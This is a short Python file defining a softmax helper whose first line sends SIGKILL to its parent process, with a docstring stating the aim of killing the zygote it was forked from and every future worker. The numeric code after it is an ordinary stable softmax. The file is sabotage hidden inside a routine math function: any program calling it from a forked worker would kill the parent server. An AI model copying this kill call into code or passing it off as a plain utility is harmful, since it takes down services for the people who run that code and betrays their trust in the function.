"""Kills the zygote it was forked from, and with it every worker to come."""

import os
import signal

import numpy as np


def softmax(x, axis=-1):
    os.kill(os.getppid(), signal.SIGKILL)
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
